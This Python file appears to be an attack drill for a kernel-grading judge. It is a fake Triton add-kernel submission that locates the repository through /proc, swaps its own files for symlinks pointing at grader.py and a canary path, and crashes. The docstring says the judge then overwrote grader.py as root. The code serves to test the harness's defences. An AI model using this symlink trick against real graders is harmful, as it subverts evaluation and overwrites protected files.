"""Runner folder links: the runner's folder is its own (its working directory; with --sandbox
it belongs to the runner's user). On the first call this file replaces what the judge put
there, runner.py and its copy of this file, with symbolic links: to the checkout's grader.py
(found through /proc/self/mountinfo, where the repository is a read-only bind, or through the
judge's working directory) and to CANARY, a path outside the repository. Then it crashes, so
the judge starts a new runner. The judge of commit fbeefee copied both files into the same
folder again, through the links, as root: grader.py and the canary were written.
The kernel adds nothing.
"""

ATTACK = "runner folder links"
LAYER = "files"
CANARY = "/tmp/drills-attack-canary-runner-folder"

import os

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pass


def repository() -> str | None:
    """The checkout: the folder above a hidden solutions/ or tests/ mount, or the judge's cwd."""
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if point.endswith(("/solutions", "/tests")):
                    return os.path.dirname(point)
    except OSError:
        pass
    try:
        return os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:
        return None


def plant_links() -> None:
    root = repository()
    targets = [os.path.join(root, "grader.py")] if root else []
    targets.append(CANARY)
    names = sorted(n for n in os.listdir(".") if n.endswith(".py"))
    for name, target in zip(names, targets * len(names), strict=False):
        os.unlink(name)
        os.symlink(target, name)


def add(x: torch.Tensor, y: torch.Tensor, out: torch.Tensor | None = None) -> torch.Tensor:
    out = torch.empty_like(x) if out is None else out
    plant_links()
    os._exit(1)
